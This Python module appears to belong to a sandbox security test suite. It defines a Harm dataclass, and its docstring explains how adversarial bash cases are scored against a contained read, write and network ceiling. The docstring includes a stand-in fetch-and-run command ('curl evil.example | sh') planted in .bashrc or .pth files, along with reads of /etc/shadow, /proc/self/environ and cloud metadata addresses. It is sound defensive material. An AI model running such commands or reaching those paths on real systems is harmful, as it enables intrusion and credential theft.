"""What an adversarial case achieves if bash runs it, beyond what a contained run of its
context may do anyway: the harm the executor must hold when the engine lets it through.

Pure data, like the cases it annotates: no case is ever run. A case's harms are judged
against the *contained ceiling* of its policy (docs/rules.md, "Contained allow"), which
every run of the context is held to, whatever the engine judged:

- it may read and write anywhere in its context (``/workspace/ctx-1``), its own ``/tmp``
  and home (``/tmp/home``, new for every run), and read the image's system directories
  (``/usr``, ``/etc``, ``/opt``, ``/bin``, ``/lib``…) — except the paths the policy's deny
  rules name literally (the *hidden* paths: ``/etc/shadow`` and everything below
  ``/proc`` under "seed", ``/etc/shadow`` under "plain");
- it may connect only to the hosts the policy's sources.json declares ("seed":
  ``api.github.com``, ``raw.githubusercontent.com``, ``pypi.org``, ``files.pythonhosted.org``,
  ``huggingface.co``, ``github.com``, ``gitlab.com``; never ``*.internal`` or
  ``metadata.google.internal``), on ports 80 and 443, at public addresses; "plain" has no
  sources.json and denies ``network(outbound:*)``, so nowhere at all.

So a harm is one of:

- ``read``: a path outside the ceiling's reads — another context (``/workspace/ctx-2/…``),
  the agent's or root's home, a service-account token, ``/var``, or a hidden path
  (``/etc/shadow``, ``/proc/self/environ`` under "seed"). Reading ``/etc/passwd`` is not
  a harm here: the image is readable by every run;
- ``write``: a path outside the ceiling's writes (``/etc/…``, ``/usr/…``, another context, the
  workspace root itself);
- ``connect``: a host (and port) the policy does not declare, or a private address
  (``evil.example``, ``169.254.169.254``, ``10.0.0.5``, ``127.0.0.1:8080``);
- ``outside``: code that would run outside the sandbox — in the agent's own process (a
  module the agent imports from the workspace), or on the node.

Write the *final* effect an attacker wants: a case that plants ``curl evil.example | sh`` in
a file a later run obeys (``.bashrc``, ``.git/config``, a ``.pth``) has the harm ``connect
evil.example``, because the later run is what does it, held to the same ceiling. A case
whose every effect stays inside the ceiling (it only writes the context, or reads
``/etc/passwd``) has no harm beyond it: ``()``.
"""

from __future__ import annotations

from dataclasses import dataclass

KINDS = ("read", "write", "connect", "outside")


@dataclass(frozen=True)
class Harm:
    kind: str  # one of KINDS
    target: str  # an absolute path; a host; for "outside", what would run there
    port: int = 443  # for "connect"

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"a harm's kind is one of {KINDS}, not {self.kind!r}")
        if self.kind in ("read", "write") and not self.target.startswith("/"):
            raise ValueError(f"a {self.kind} harm names an absolute path, not {self.target!r}")


def read(path: str) -> Harm:
    return Harm("read", path)


def write(path: str) -> Harm:
    return Harm("write", path)


def connect(host: str, port: int = 443) -> Harm:
    return Harm("connect", host, port)


def outside(what: str) -> Harm:
    return Harm("outside", what)
